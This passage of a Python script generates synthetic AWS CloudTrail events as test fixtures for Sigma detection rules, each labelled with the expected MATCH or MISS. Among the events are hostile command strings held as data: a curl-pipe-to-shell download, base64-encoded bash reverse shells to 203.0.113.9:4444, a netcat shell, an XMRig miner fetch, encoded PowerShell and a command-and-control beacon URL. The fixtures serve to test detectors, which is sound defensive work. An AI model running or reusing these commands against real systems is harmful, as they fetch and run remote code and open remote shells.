    E.add(desc_inst(False, "1.09", 999, name="DescribeSnapshots"))                                       # f52 MISS maxResults

    # f27 fieldref ; f28 fieldref|contains
    def key_for(user, ident):
        p = {"userName": user} if user is not None else None
        return ev("CreateAccessKey", "iam.amazonaws.com", ident=ident, params=p,
                  resp={"accessKey": {"accessKeyId": "AKIAIOSFODNN7NEWKEY1", "status": "Active"}})
    E.add(key_for("alice", iam_user("alice")))                                                           # MATCH
    E.add(key_for("Bob", iam_user("bob")))                                                               # MATCH any case
    E.add(key_for("bob", iam_user("alice")))                                                             # MISS
    E.add(key_for(None, iam_user("alice")))                                                              # MISS no requestParameters.userName
    E.add(key_for("alice", role("Admin", "alice")))                                                      # MISS no userIdentity.userName
    for arn in (f"arn:aws:iam::{ACCOUNT}:policy/EscalateToAdmin",                                       # MATCH
                f"arn:aws:iam::{ACCOUNT}:policy/team/S3Writers"):                                        # MATCH
        E.add(ev("AttachRolePolicy", "iam.amazonaws.com", params={"roleName": "ops", "policyArn": arn}))
    for arn in ("arn:aws:iam::aws:policy/ReadOnlyAccess",                                                # MISS AWS managed
                f"arn:aws:iam::{OTHER}:policy/Shared"):                                                  # MISS other account
        E.add(ev("AttachRolePolicy", "iam.amazonaws.com", params={"roleName": "ops", "policyArn": arn}))

    # f55 fieldref between a number and a numeric string (both sides compared as text)
    E.add(assume_role("s1", duration=3600, additionalEventData={"requestedDuration": "3600"}))          # MATCH number vs string
    E.add(assume_role("s2", duration=3600, additionalEventData={"requestedDuration": 3600}))            # MATCH number vs number
    E.add(assume_role("s3", duration=3600, additionalEventData={"requestedDuration": "900"}))           # MISS
    E.add(assume_role("s4", duration=3600))                                                              # MISS no other field

    # f56 null against a path across an array: only a single null value is null
    e = s3_data("GetObject", "shared-drop", "in/a.zip")
    e["resources"][0]["accountId"] = None
    E.add(e)                                                                                             # MISS [null, "1111..."] is not null
    e = s3_data("GetObject", "shared-drop", "in/b.zip")
    e["resources"] = [{"accountId": None, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::shared-drop"}]
    E.add(e)                                                                                             # MATCH one element, null
    e = s3_data("GetObject", "shared-drop", "in/c.zip")
    e["resources"] = [{"type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::shared-drop"}]
    E.add(e)                                                                                             # MATCH absent in the only element
    e = s3_data("GetObject", "shared-drop", "in/d.zip")
    e["resources"][0]["accountId"] = None
    e["resources"][1]["accountId"] = None
    E.add(e)                                                                                             # MISS [null, null] is not null
    E.add(s3_data("GetObject", "shared-drop", "in/e.zip"))                                               # MISS one value, not null


def encodings_keywords_conditions(E):
    # f34 windash|contains
    for c in ("powershell.exe -EncodedCommand SQBFAFgA",                                                 # MATCH -
              "powershell.exe /EncodedCommand SQBFAFgA",                                                 # MATCH /
              "powershell.exe \u2013EncodedCommand SQBFAFgA",                                            # MATCH en dash
              "powershell.exe \u2014EncodedCommand SQBFAFgA",                                            # MATCH em dash
              "powershell.exe \u2015EncodedCommand SQBFAFgA",                                            # MATCH horizontal bar
              "POWERSHELL.EXE -encodedcommand SQBFAFgA"):                                                # MATCH any case
        E.add(send_command(["Set-Location C:\\Temp", c], doc="AWS-RunPowerShellScript"))
    for c in ("powershell.exe +EncodedCommand SQBFAFgA",                                                 # MISS
              "powershell.exe EncodedCommand SQBFAFgA",                                                  # MISS
              "powershell.exe -EncodedCommandX SQBFAFgA"):                                               # MISS no space after
        E.add(send_command([c], doc="AWS-RunPowerShellScript"))

    # f35 base64|contains
    payload = "curl http://203.0.113.9/s.sh | sh"
    E.add(send_command([f"echo {b64(payload)} | base64 -d | bash"]))                                     # MATCH
    E.add(send_command([f"echo {b64(payload).upper()} | base64 -d | bash"]))                             # MATCH (matched case-insensitively, like any value)
    E.add(send_command([f"echo {b64('wget http://203.0.113.9/s.sh -O- | sh')} | base64 -d | bash"]))     # MISS
    E.add(send_command([f"echo {b64(' ' + payload)} | base64 -d | bash"]))                               # MISS shifted by one byte (base64offset would)
    E.add(send_command([payload]))                                                                       # MISS not encoded

    # f36 base64offset|contains: offsets where the Sigma static part needs no neighbour
    E.add(send_command([f"echo {b64('/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')} | base64 -d | sh"]))  # MATCH offset 0
    E.add(send_command([f"echo {b64('cd /tmp; /bin/bash')} | base64 -d | sh"]))                          # MATCH offset 0, at the end
    E.add(send_command([f"echo {b64('exec /bin/bash')} | base64 -d | sh"]))                              # MATCH offset 2, at the end
    E.add(send_command([f"echo {b64('ls; /bin/bash')} | base64 -d | sh"]))                               # MATCH offset 1, at the end
    E.add(send_command([f"echo {b64('exec /bin/bash -c id')} | base64 -d | sh"]))                        # MATCH offset 2, then a space
    E.add(send_command([f"echo {b64('/bin/sh -i >& /dev/tcp/203.0.113.9/4444 0>&1')} | base64 -d | sh"]))  # MISS
    E.add(send_command(["/bin/bash -c id"]))                                                             # MISS not encoded
    E.add(send_command([f"echo {b64('exec /usr/bin/zsh')} | base64 -d | sh"]))                           # MISS

    # f39 single keyword ; f40 list of keywords ; f41 |all keywords in one value
    E.add(ev("CreateSecurityGroup", "ec2.amazonaws.com", params={"groupName": "web", "vpcId": "vpc-0a1b2c3d4e5f67890",
                                                                 "groupDescription": "web tier"}, ip="203.0.113.66"))  # f39 MATCH sourceIPAddress
    E.add(ev("UpdateIPSet", "wafv2.amazonaws.com", params={"name": "blocklist", "addresses": ["198.51.100.4", "203.0.113.66"]}))  # f39 MATCH in an array
    E.add(ev("CreateSecurityGroup", "ec2.amazonaws.com", params={"groupName": "web2", "vpcId": "vpc-0a1b2c3d4e5f67890",
                                                                 "groupDescription": "web tier"}, ip="203.0.113.67"))  # f39 MISS
    E.add(ev("UpdateIPSet", "wafv2.amazonaws.com", params={"name": "blocklist", "addresses": ["203.0.113.6"]}))  # f39 MISS
    E.add(send_command(["curl -s -o /tmp/.x http://203.0.113.9/XMRig-6.21.0 && chmod +x /tmp/.x"]))     # f40 MATCH *xmrig* any case
    E.add(ev("CreateTags", "ec2.amazonaws.com", params={"resourcesSet": {"items": [{"resourceId": "i-0abcd1234efgh5678"}]},
                                                        "tagSet": {"items": [{"key": "pool", "value": "stratum+tcp://pool.example.net:3333"}]}}))  # f40 MATCH startswith
    E.add(ev("ListBuckets", "s3.amazonaws.com", ident=iam_user("leaked", key="AKIAI44QH8DHBEXAMPLE"), read_only=True,
             ip="198.51.100.99"))                                                                        # f40 MATCH whole value
    E.add(ev("CreateTags", "ec2.amazonaws.com", params={"resourcesSet": {"items": [{"resourceId": "i-0abcd1234efgh5678"}]},
                                                        "tagSet": {"items": [{"key": "note", "value": "pool is stratum+ssl://pool.example.net"}]}}))  # f40 MISS
    E.add(ev("ListBuckets", "s3.amazonaws.com", ident=iam_user("other", key="AKIAI44QH8DHBEXAMPLF"), read_only=True))  # f40 MISS
    E.add(send_command(["curl -s http://203.0.113.9/miner -o /tmp/m"]))                                  # f40 MISS
    E.add(ev("PutBucketTagging", "s3.amazonaws.com", params={"bucketName": "finance", "Tagging": {"TagSet": {"Tag": [
        {"Key": "note", "Value": "ransom note: write to payme@proton.me"}]}}}))                            # f41 MATCH one value holds both
    E.add(ev("PutBucketTagging", "s3.amazonaws.com", params={"bucketName": "finance", "Tagging": {"TagSet": {"Tag": [
        {"Key": "note", "Value": "RANSOM: contact PAYME@PROTON.ME"}]}}}))                                  # f41 MATCH any case
    E.add(ev("PutBucketTagging", "s3.amazonaws.com", params={"bucketName": "finance", "Tagging": {"TagSet": {"Tag": [
        {"Key": "note", "Value": "ransom note, see ticket"}]}}}))                                           # f41 MISS one keyword
    E.add(ev("PutBucketTagging", "s3.amazonaws.com", params={"bucketName": "finance", "Tagging": {"TagSet": {"Tag": [
        {"Key": "contact", "Value": "helpdesk@proton.me"}]}}}))                                            # f41 MISS one keyword

    # f42 (sel_iam or sel_org) and not filter_automation
    E.add(ev("DeleteRole", "iam.amazonaws.com", ident=role("Admin", "mallory"), params={"roleName": "audit"}))   # MATCH
    E.add(ev("DeleteRole", "iam.amazonaws.com", ident=role("terraform-apply", "tf"), params={"roleName": "x"}))  # MISS filtered
    E.add(ev("LeaveOrganization", "organizations.amazonaws.com", ident=root()))                                 # MATCH
    E.add(ev("LeaveOrganization", "organizations.amazonaws.com", ident=role("terraform-org", "tf")))            # MISS filtered
    E.add(ev("CreateRole", "iam.amazonaws.com", ident=role("Admin", "mallory"), params={"roleName": "y"}))      # MISS

    # f43 sel_acl and not sel_private or sel_public
    def acl(name, value):
        return ev(name, "s3.amazonaws.com", params={"bucketName": "team-share", "acl": "",
                                                    "x-amz-acl": [value], "Host": "team-share.s3.amazonaws.com"})
    E.add(acl("PutBucketAcl", "public-read"))                                                            # MATCH acl and not private
    E.add(acl("PutBucketAcl", "private"))                                                                # MISS
    E.add(acl("CreateBucket", "public-read-write"))                                                      # MATCH public
    E.add(acl("PutBucketAcl", "public-read-write"))                                                      # MATCH
    E.add(acl("CreateBucket", "private"))                                                                # MISS

    # f44 1 of selection_*
    key = f"arn:aws:kms:us-east-1:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"
    E.add(ev("ScheduleKeyDeletion", "kms.amazonaws.com", params={"keyId": key, "pendingWindowInDays": 7}))     # MATCH
    E.add(ev("DisableKey", "kms.amazonaws.com", params={"keyId": key}))                                        # MATCH
    E.add(ev("EnableKey", "kms.amazonaws.com", params={"keyId": key}))                                         # MISS (filter_service would)
    E.add(ev("CancelKeyDeletion", "kms.amazonaws.com", params={"keyId": key}))                                 # MISS

    # f45 all of selection_*
    def stop(ident, region):
        return ev("StopInstances", "ec2.amazonaws.com", ident=ident, region=region,
                  params={"instancesSet": {"items": [{"instanceId": "i-0abcd1234efgh5678"}]}, "force": False})
    E.add(stop(role("Ops", "o1"), "ap-southeast-2"))                                                     # MATCH
    E.add(stop(role("Ops", "o1"), "ap-northeast-1"))                                                     # MATCH
    E.add(stop(iam_user("alice"), "ap-southeast-2"))                                                     # MISS actor
    E.add(stop(role("Ops", "o1"), "eu-central-1"))                                                       # MISS region

    # f46 1 of them (not _noise) ; f47 all of them (not _never) ; f48 list of conditions
    E.add(ev("DeleteFlowLogs", "ec2.amazonaws.com", params={"flowLogIds": ["fl-0123456789abcdef0"]}))   # f46 MATCH
    E.add(ev("DeleteVpc", "ec2.amazonaws.com", params={"vpcId": "vpc-0a1b2c3d4e5f67890"}))              # f46 MATCH
    E.add(ev("CreateFlowLogs", "ec2.amazonaws.com", params={"resourceIds": ["vpc-0a1b2c3d4e5f67890"]}))  # f46 MISS
    E.add(ev("DeleteDetector", "guardduty.amazonaws.com", params={"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}))  # f47 MATCH
    E.add(ev("DeleteDetector", "guardduty.amazonaws.com", region="eu-west-1",
             params={"detectorId": "34abc34d567e8fa901bc2d34e56789f0"}))                                  # f47 MATCH
    E.add(ev("DeleteDetector", "macie2.amazonaws.com", params={}))                                        # f47 MISS source
    E.add(ev("DeleteMembers", "guardduty.amazonaws.com", params={"accountIds": [OTHER]}))                # f47 MISS name
    E.add(ev("StopConfigurationRecorder", "config.amazonaws.com", params={"configurationRecorderName": "default"}))  # f48 MATCH
    E.add(ev("DisableSecurityHub", "securityhub.amazonaws.com", params={}))                              # f48 MATCH
    E.add(ev("StartConfigurationRecorder", "config.amazonaws.com", params={"configurationRecorderName": "default"}))  # f48 MISS

    # f54 contains with a wildcard inside
    E.add(s3_data("PutObject", "db-dumps", "nightly/backup-2025-03-01.sql.gz"))                          # MATCH
    E.add(s3_data("PutObject", "db-dumps", "BACKUP.sql"))                                                # MATCH (* may be empty)
    E.add(s3_data("PutObject", "db-dumps", "nightly/backup-2025-03-01.tar.gz"))                          # MISS
    E.add(s3_data("PutObject", "db-dumps", "nightly/sql-backup.tar"))                                    # MISS order


# ================================================================== disputed: disputed-events/

def d01(E):
    E.add(ev("GetCallerIdentity", "sts.amazonaws.com", read_only=True, ua="c2.example.net"))            # both MATCH whole value
    E.add(ev("CreateFunction20150331", "lambda.amazonaws.com",
             params={"functionName": "updater", "environment": {"variables": {"ENDPOINT": "https://c2.example.net/beacon"}}}))  # ctq MATCH, reference MISS
    E.add(ev("PutBucketWebsite", "s3.amazonaws.com",
             params={"bucketName": "cdn", "WebsiteConfiguration": {"RedirectAllRequestsTo": {"HostName": "C2.EXAMPLE.NET"}}}))  # both MATCH
    E.add(ev("GetCallerIdentity", "sts.amazonaws.com", read_only=True, ua="c3.example.net"))            # both MISS


def d02(E):
    E.add(ev("PutBucketTagging", "s3.amazonaws.com", params={"bucketName": "finance", "Tagging": {"TagSet": {"Tag": [
        {"Key": "note", "Value": "ransom note: write to payme@proton.me"}]}}}))                            # both MATCH one value
    E.add(ev("PutBucketTagging", "s3.amazonaws.com", params={"bucketName": "finance", "Tagging": {"TagSet": {"Tag": [
        {"Key": "note", "Value": "ransom note"}, {"Key": "contact", "Value": "payme@proton.me"}]}}}))       # reference MATCH, ctq MISS
    E.add(ev("PutBucketTagging", "s3.amazonaws.com", params={"bucketName": "finance", "Tagging": {"TagSet": {"Tag": [
        {"Key": "note", "Value": "ransom note"}]}}}))                                                       # both MISS


def d03(E):
    def get_role(**kw):
        return ev("GetRole", "iam.amazonaws.com", read_only=True, params={"roleName": "audit"}, **kw)
    E.add(get_role())                                                                                    # reference MATCH (absent), ctq MISS
    E.add(get_role(errorCode=None))                                                                      # both MATCH
    E.add(get_role(error="NoSuchEntity", message="The role with name audit cannot be found."))          # both MATCH
    E.add(get_role(error="AccessDenied", message="not authorized"))                                     # both MISS


def d04(E):
    def copy(src_acct, dst_acct):
        e = s3_data("CopyObject", "dst-bucket", "copy/a.bin", bucket_account=dst_acct)
        e["resources"].append({"accountId": src_acct, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::src-bucket"})
        return e
    E.add(copy(ACCOUNT, ACCOUNT))                                                                        # reference MATCH, ctq MISS
    E.add(copy(OTHER, ACCOUNT))                                                                          # reference MATCH (an element equals), ctq MISS
    E.add(copy(OTHER, OTHER))                                                                            # both MISS
    e = s3_data("CopyObject", "dst-bucket", "copy/b.bin")
    e["resources"] = [e["resources"][1]]
    E.add(e)                                                                                             # both MATCH (one element)


def d05(E):
    for v in (True, "true", "TRUE"):                                                                     # both MATCH
        E.add(ev("ModifyDBInstance", "rds.amazonaws.com", params={"dBInstanceIdentifier": "prod-db", "publiclyAccessible": v}))
    for v in ("1", "yes"):                                                                               # ctq MATCH, reference MISS
        E.add(ev("ModifyDBInstance", "rds.amazonaws.com", params={"dBInstanceIdentifier": "prod-db", "publiclyAccessible": v}))
    for v in (False, "no", 1):                                                                           # both MISS
        E.add(ev("ModifyDBInstance", "rds.amazonaws.com", params={"dBInstanceIdentifier": "prod-db", "publiclyAccessible": v}))


def d06(E):
    E.add(ev("ListUsers", "iam.amazonaws.com", read_only=True, version="1.10"))                         # ctq MATCH, reference MISS
    E.add(ev("ListUsers", "iam.amazonaws.com", read_only=True, version="1.1"))                          # both MATCH
    E.add(ev("ListUsers", "iam.amazonaws.com", read_only=True, version="1.11"))                         # both MISS


def d07(E):
    def token(d):
        return ev("GetSessionToken", "sts.amazonaws.com", read_only=True, params={"durationSeconds": d})
    E.add(token(3600))                                                                                   # both MATCH
    E.add(token("3600"))                                                                                 # both MATCH
    E.add(token("3600.0"))                                                                               # ctq MATCH, reference MISS
    E.add(token("03600"))                                                                                # ctq MATCH, reference MISS
    E.add(token(3600.0))                                                                                 # both MATCH (JSON 3600.0 prints as 3600)
    E.add(token(36000))                                                                                  # both MISS


def d08(E):
    E.add(send_command(["powershell.exe -EncodedCommand SQBFAFgA"], doc="AWS-RunPowerShellScript"))     # reference MATCH, ctq MISS
    E.add(send_command(["powershell.exe /EncodedCommand SQBFAFgA"], doc="AWS-RunPowerShellScript"))     # reference MATCH, ctq MISS
    E.add(send_command(["* -EncodedCommand *"], doc="AWS-RunPowerShellScript"))                         # both MATCH (ctq reads the stars as text)
    E.add(send_command(["powershell.exe EncodedCommand SQBFAFgA"], doc="AWS-RunPowerShellScript"))      # both MISS


def d09(E):
    E.add(send_command([f"echo {b64('/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')} | base64 -d | sh"]))  # both MATCH offset 0
    E.add(send_command([f"echo {b64('ls; /bin/bash -c id')} | base64 -d | sh"]))                         # reference MATCH, ctq MISS (offset 1, then a space)
    E.add(send_command([f"echo {b64('exec /bin/bash|nc 203.0.113.9 4444')} | base64 -d | sh"]))          # reference MATCH, ctq MISS (offset 2, then |)
    E.add(send_command([f"echo {b64('sh -c /bin/bash')} | base64 -d | sh"]))                             # both MATCH (at the end)
    E.add(send_command([f"echo {b64('exec /bin/zsh -c id')} | base64 -d | sh"]))                         # both MISS


def d10(E):
    def sg(desc):
        return ev("CreateSecurityGroup", "ec2.amazonaws.com",
                  params={"groupName": "tmp", "vpcId": "vpc-0a1b2c3d4e5f67890", "groupDescription": desc})
    E.add(sg("owner: red-team"))                                                                         # both MATCH
    E.add(sg("owner: red-team\n"))                                                                       # reference MATCH, ctq MISS
    E.add(sg("owner: red-team\nexpires: never"))                                                         # both MISS


def d11(E):
    E.add(ev("CreateRole", "iam.amazonaws.com", params={"roleName": "OrgAdminRole", "assumeRolePolicyDocument": "{}"}))  # reference MATCH; ctq skips the rule
    E.add(ev("CreateRole", "iam.amazonaws.com", params={"roleName": "Reader", "assumeRolePolicyDocument": "{}"}))        # both MISS


def d12(E):
    e = s3_data("DeleteObject", "shared-drop", "in/a.zip")
    e["resources"][1]["accountId"] = None
    e["resources"][0]["accountId"] = None
    E.add(e)                                                                                             # ctq MATCH (present), reference MISS
    E.add(s3_data("DeleteObject", "shared-drop", "in/b.zip"))                                            # both MATCH
    e = s3_data("DeleteObject", "shared-drop", "in/c.zip")
    e["resources"][1]["accountId"] = None
    E.add(e)                                                                                             # both MISS (one null value)


def d13(E):
    def saml(d):
        return ev("AssumeRoleWithSAML", "sts.amazonaws.com", ident={"type": "SAMLUser", "principalId": "x:alice@example.com",
                                                                   "userName": "alice@example.com", "identityProvider": "x"},
                  read_only=True, params={"roleArn": f"arn:aws:iam::{ACCOUNT}:role/SSO", "durationSeconds": d})
    E.add(saml(7200))                                                                                    # both MATCH
    E.add(saml("Infinity"))                                                                              # ctq MATCH, reference MISS
    E.add(saml("inf"))                                                                                   # ctq MATCH, reference MISS
    E.add(saml("NaN"))                                                                                   # both MISS
    E.add(saml(900))                                                                                     # both MISS


def write(folder, name, events):
    path = os.path.join(HERE, folder, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        text = json.dumps({"Records": events.records}, indent=1, ensure_ascii=False)
        if name == "lists-maps-case.json":
            # f04: one UpdateTrail written with a JSON escape, as JSON allows: rules see "UpdateTrail"
            text = text.replace('"eventName": "UpdateTrail"', '"eventName": "\\u0055pdateTrail"', 1)
        f.write(text + "\n")
    return len(events.records)


def main():
    total = 0
    for name, start, build in [
        ("identity-and-paths.json", "2025-03-03T08:00:00", identity_and_paths),
        ("lists-maps-case.json", "2025-03-04T08:00:00", lists_maps_case),
        ("strings-and-regex.json", "2025-03-05T08:00:00", strings_and_regex),
        ("network-and-values.json", "2025-03-06T08:00:00", network_and_values),
        ("encodings-keywords-conditions.json", "2025-03-07T08:00:00", encodings_keywords_conditions),
    ]:
        E = Events(name, start)
        build(E)
        total += write("events", name, E)
    print(f"events: {total}")
    disputed = 0
    for k, build in enumerate([d01, d02, d03, d04, d05, d06, d07, d08, d09, d10, d11, d12, d13], 1):
        E = Events(build.__name__, f"2025-04-{k:02d}T09:00:00")
        build(E)
        disputed += write("disputed-events", f"{build.__name__}.json", E)
    print(f"disputed events: {disputed}")


if __name__ == "__main__":
    main()
